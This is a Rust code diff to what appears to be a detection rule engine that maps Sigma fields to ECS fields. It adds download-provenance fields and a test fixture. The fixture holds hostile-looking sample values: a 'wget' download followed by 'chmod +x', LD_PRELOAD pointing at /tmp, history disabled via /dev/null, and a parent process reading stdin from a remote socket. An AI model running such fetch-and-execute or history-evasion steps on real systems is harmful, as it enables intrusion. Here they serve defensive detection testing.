@@ -53,6 +53,8 @@ pub const SIGMA_TO_ECS: &[(&str, &str)] = &[
     ("HistFileSize", "process.env.HISTFILESIZE"),
     ("ExecutableDeleted", "process.executable_deleted"),
     ("Package", "process.package"),
+    ("DownloadedBy", "process.downloaded_by.command_line"),
+    ("MadeExecutableBy", "process.downloaded_by.chmod"),
     // Network (Sysmon 3, firewall, proxy)
     ("SourceIp", "source.ip"),
     ("SourcePort", "source.port"),
@@ -112,6 +114,7 @@ mod tests {
                         "env": {"LD_PRELOAD": "/tmp/x.so", "LD_LIBRARY_PATH": "/tmp", "LD_AUDIT": "/tmp/a.so",
                                 "HISTFILE": "/dev/null", "HISTSIZE": "0", "HISTFILESIZE": "0"},
                         "executable_deleted": true, "package": "sudo",
+                        "downloaded_by": {"command_line": "wget http://x/a", "chmod": "chmod +x a"},
                         "parent": {"pid": 1, "executable": "/p", "command_line": "p",
                                    "real_user": {"id": "1000"},
                                    "stdin": {"type": "socket", "remote": {"ip": "192.0.2.1"}}},
